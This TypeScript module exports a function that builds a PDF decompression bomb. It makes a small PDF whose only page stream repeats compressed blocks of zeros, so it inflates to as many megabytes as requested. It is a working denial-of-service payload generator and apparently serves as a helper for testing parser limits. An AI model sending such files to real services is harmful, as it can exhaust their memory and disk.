import { constants, deflateRawSync } from "node:zlib";

const MEGABYTE = 1_048_576;

/** The bytes of a small PDF whose only page unpacks to so many megabytes of nothing. */
export function pdfBomb(megabytes: number): Buffer {
  // Each piece ends where the next one may begin, so that the same one can follow itself.
  const piece = deflateRawSync(Buffer.alloc(MEGABYTE), { finishFlush: constants.Z_FULL_FLUSH });
  const end = deflateRawSync(Buffer.alloc(0));
  const stream = Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array<Buffer>(megabytes).fill(piece), end]);
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >>",
    Buffer.concat([
      Buffer.from(`<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`),
      stream,
      Buffer.from("\nendstream"),
    ]),
  ];
  const parts = [Buffer.from("%PDF-1.4\n")];
  for (const [index, object] of objects.entries())
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n"));
  // A reader that finds no table looks for the objects itself.
  parts.push(Buffer.from("trailer << /Root 1 0 R /Size 5 >>\n%%EOF"));
  return Buffer.concat(parts);
}
